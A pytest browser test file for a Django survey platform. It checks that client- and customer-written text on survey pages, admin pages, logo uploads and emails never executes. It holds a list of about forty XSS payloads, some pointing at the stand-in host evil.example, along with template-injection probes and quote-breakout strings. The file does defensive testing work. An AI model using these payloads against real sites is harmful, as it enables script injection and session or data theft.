"""Whatever tenants, customers and strangers write is text on every page that shows it: nothing of it ever runs.

Every field that a page prints holds a payload. A real Chromium opens the pages without their Content-Security-Policy,
so that whatever got out of its quotes would run, with a trap for dialogs, calls and handlers.
"""

import io
import itertools

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone
from PIL import Image

from analytics import classification
from surveys import authoring, wording
from surveys.delivery import links, survey_mail
from surveys.models import Access, Appearance, Door, OpenLink, Question, Survey
from surveys.pages import doors
from tests import factories

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

CALLS = (
    "<script>hit()</script>", "<ScRiPt src=//evil.example></sCrIpT>", "<img src=x onerror=hit()>", "<svg onload=hit()>",
    "<svg/onload=hit()//", "<body onload=hit()>", "<iframe srcdoc='<script>parent.hit()</script>'>",
    "<iframe src=javascript:parent.hit()>", "<details open ontoggle=hit()>", "<video><source onerror=hit()></video>",
    "<input autofocus onfocus=hit()>", "<select autofocus onfocus=hit()>", "<marquee onstart=hit()>",
    "<math><mtext></form><form><mglyph><style></math><img src=x onerror=hit()>", "<a href=javascript:hit()>x</a>",
    "<object data=javascript:hit()>", "<embed src=javascript:hit()>", "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=javascript:hit()'>", "<form action=javascript:hit()><button>x</button>",
    "<link rel=stylesheet href=//evil.example>", "<style>*{background:url(//evil.example)}</style>",
    "<template><script>hit()</script></template>", "<noscript><p title=\"</noscript><img src=x onerror=hit()>\">",
)  # fmt: skip
BREAKS = (
    '">', "'>", "'", '"', "</textarea>", "</title>", "</script>", "-->", "]]>", "</style>", "&#34;>", "\\\"", "`",
    "</option></select>", "' autofocus onfocus=hit() x='", '" autofocus onfocus=hit() x="',
)  # fmt: skip
XSS = [*CALLS, *(f"{way_out}<img src=x onerror=hit()>" for way_out in BREAKS)]
BRACES = "{{7*7}} {% debug %} ${7*7} %(x)s {0.__class__} #{7*7}"
HANDLERS = """() => [...document.querySelectorAll('*')].filter(element => [...element.attributes].some(attribute =>
  /^on/i.test(attribute.name) || /^\\s*javascript:/i.test(attribute.value))).map(element => element.outerHTML)"""


def test_there_are_forty_of_them():
    assert len(set(XSS)) == 40


@pytest.fixture
def world(transactional_db, live_server, settings):
    """A client that has written a payload into everything, a customer who answered with them, and a machine."""
    settings.BASE_URL = live_server.url
    settings.CSRF_TRUSTED_ORIGINS = [live_server.url]
    payloads = itertools.cycle(XSS)

    def text(longest: int = 500) -> str:
        payload = next(payload for payload in payloads if len(payload) + 8 <= longest)
        return f"{BRACES} {payload}"[-longest:] if len(BRACES) + len(payload) < longest else f"canary {payload}"

    acme = factories.make_client(name=text(120))
    acme.from_name, acme.imprint, acme.sentence_name_de = text(120), text(250), text(120)
    acme.save()
    survey = Survey.objects.create(client=acme, kind="csat", name=text(120))
    draft = wording.draft_of(survey, [("score", "csat")])
    for position, kind in enumerate(("single", "multiple", "text", "ces", "yes_no", "solved", "single", "text"), 1):
        options = ["a", "b", "c"] if kind in ("single", "multiple") else []
        texts = {
            "ask": text(), "hint": text(), "lowest": text(), "highest": text(),
            "options": {option: text() for option in options or Question.FIXED_OPTIONS.get(kind, ())},
        }  # fmt: skip
        key = "comment" if position == 3 else f"q{position}"
        Question.objects.create(version=draft, position=position, key=key, kind=kind, options=options,
                                wording={"de": texts, "en": texts})  # fmt: skip
    wording.publish(survey, timezone.now())
    team, agent = factories.make_team(acme, text(60)), factories.make_agent(acme, text(60))
    campaign = factories.make_campaign(acme, survey=survey, name=text(120))
    customer = factories.make_customer(acme, name=text(120), segment=text(60))
    contact = factories.make_contact(acme, customer=customer, reason=text(100), external_id=text(60)[:60],
                                     team=team, agent=agent)  # fmt: skip
    answered = factories.make_invitation(acme, campaign=campaign, contact=contact, agent=agent, team=team)
    fresh = factories.make_invitation(acme, campaign=campaign, contact=factories.make_contact(acme, customer=customer))
    response = factories.make_response(acme, 1, " ".join(XSS[:20]), invitation=answered, submitted_at=timezone.now())
    response.answers.create(question=survey.current.questions.get(key="q8"), text=" ".join(XSS[20:]))
    response.first, response.changed_at = {"said": {"score": 5, "comment": text()}, "wants_call": False}, timezone.now()
    response.save()
    classification.read(response.answers.first())
    flagged = factories.make_flagged(fresh, 2, " ".join(XSS))
    open_links = [
        OpenLink.objects.create(client=acme, survey=survey, name=f"{door} {text(100)}"[:120], door=door)
        for door in (Door.OPEN, Door.EMBED, Door.KIOSK)
    ]
    appearance = Appearance.objects.create(client=acme, review_url="https://review.example/'\"><script>hit()</script>")
    authoring.begin(survey)
    factories.give_access(factories.make_login("ana"), acme, Access.Role.ANALYST)
    factories.make_login("root", is_superuser=True, first_name="Kim")
    return {"answered": answered, "fresh": fresh, "response": response, "flagged": flagged, "survey": survey,
            "open_links": open_links, "appearance": appearance, "campaign": campaign, "client": acme}  # fmt: skip


@pytest.fixture
def trap(browser, live_server):
    """`look(path)`: a page opened without its policy; whatever ran, asked for a stranger or hangs on a handler."""
    caught, context = [], browser.new_context(locale="en-GB", bypass_csp=True)
    context.expose_function("hit", lambda *_: caught.append("hit"))
    page = context.new_page()
    page.on("dialog", lambda dialog: (caught.append(dialog.message), dialog.dismiss()))
    page.on("pageerror", lambda error: caught.append(str(error)))

    def watch(request) -> None:
        if not request.url.startswith((f"{live_server.url}/", "data:", "about:", "blob:")):
            caught.append(request.url)

    context.on("request", watch)

    def look(path: str) -> str:
        reply = page.goto(live_server.url + path)
        page.wait_for_timeout(100)
        assert reply.status == 200, path
        for frame in page.frames:
            caught.extend(frame.evaluate(HANDLERS))
        assert caught == [], path
        return page.content()

    look.page, look.caught = page, caught
    yield look
    context.close()


def is_written_by_the_client(markup: str) -> bool:
    """Whether a payload stands in it: a page without any would prove nothing."""
    return "{0.__class__}" in markup or "canary" in markup


def test_the_trap_catches_what_does_run(trap, live_server):
    """Else the others could not fail."""
    trap.page.goto(f"{live_server.url}/s/x/")
    trap.page.set_content("<img src=x onerror=hit()>")
    trap.page.wait_for_timeout(300)
    with pytest.raises(AssertionError):
        trap("/admin/login/")


def test_no_payload_runs_on_any_page_of_any_door(world, trap):
    token = links.make(links.ANSWER, world["answered"].public_id.hex)
    fresh = links.make(links.ANSWER, world["fresh"].public_id.hex)
    paths = [f"/s/{fresh}/", f"/s/{fresh}/?lang=en&score=2", f"/s/{fresh}/more/", f"/s/{token}/", f"/s/{token}/thanks/",
             f"/s/{token}/?change=1&page=1", survey_mail.unsubscribe_path(world["fresh"])]  # fmt: skip
    for path in (*paths, *map(doors.path_of, world["open_links"])):
        markup = trap(path)
        assert is_written_by_the_client(markup)
        assert "settings" not in markup.lower()
    # What is wrong comes back with every word, and what was sent is shown as it was kept.
    trap.page.goto(trap.page.url.partition("/k/")[0] + f"/s/{fresh}/")
    trap.page.locator("textarea").first.fill(" ".join(XSS))
    trap.page.locator("button[type=submit]").first.click()
    trap.page.wait_for_timeout(1200)
    assert (trap.page.evaluate(HANDLERS), trap.caught) == ([], [])


def test_no_payload_runs_in_the_admin(world, trap, live_server):
    survey, flagged, response = world["survey"], world["flagged"], world["response"]
    trap.page.goto(f"{live_server.url}/admin/login/")
    trap.page.fill("#id_username", "ana")
    trap.page.fill("#id_password", "kennwort")
    trap.page.locator("input[type=submit]").click()
    lists = ("survey", "surveyversion", "openlink", "flaggedsheet", "response", "invitation", "campaign", "appearance",
             "customer", "contact", "client")  # fmt: skip
    pages = (
        ("survey_change", survey), ("survey_draft", survey), ("survey_preview", survey), ("survey_history", survey),
        ("surveyversion_change", survey.current), ("flaggedsheet_change", flagged), ("response_change", response),
        ("invitation_change", world["answered"]), ("invitation_change", world["fresh"]),
        ("openlink_change", world["open_links"][1]), ("appearance_change", world["appearance"]),
        ("campaign_change", world["campaign"]),
    )  # fmt: skip
    question = reverse("admin:surveys_survey_question", args=[survey.pk])
    paths = [
        *(reverse(f"admin:surveys_{model}_changelist") for model in lists),
        *(reverse(f"admin:surveys_{page}", args=[row.pk]) for page, row in pages),
        *(f"{question}?key={key}" for key in ("q1", "comment", "q4", "q6")),
    ]
    assert [path for path in paths if not is_written_by_the_client(trap(path))] == []
    assert trap.caught == []


def test_the_name_of_a_logo_is_shown_and_kept_nowhere(world, client):
    client.force_login(Access.objects.get().login)
    picture = io.BytesIO()
    Image.new("RGB", (40, 20), "navy").save(picture, "PNG")
    path = reverse("admin:surveys_appearance_change", args=[world["appearance"].pk])
    form = client.get(path).context["adminform"].form
    sent = {name: form[name].value() for name in form.fields if form[name].value() not in (None, "", False)}
    sent = {name: "\n".join(value) if isinstance(value, list) else value for name, value in sent.items()}
    file = SimpleUploadedFile("canary<img src=x onerror=hit()>.png", picture.getvalue(), "image/png")
    done = client.post(path, {**sent, "logo_file": file, "review_url": ""}, follow=True)
    assert Appearance.objects.get().logo
    assert "canary<img" not in done.content.decode() and "canary&lt;img" not in done.content.decode()


def test_in_the_mail_every_payload_is_text(world, trap, live_server):
    mail = survey_mail.render(world["fresh"])
    trap.page.goto(f"{live_server.url}/s/x/")
    trap.page.set_content(mail.html)
    trap.page.wait_for_timeout(300)
    assert trap.page.evaluate(HANDLERS) == []
    assert trap.page.locator("script, iframe, object, embed, form, svg").count() == 0
    assert "settings" not in (mail.html + mail.text).lower() and "\n" not in mail.subject
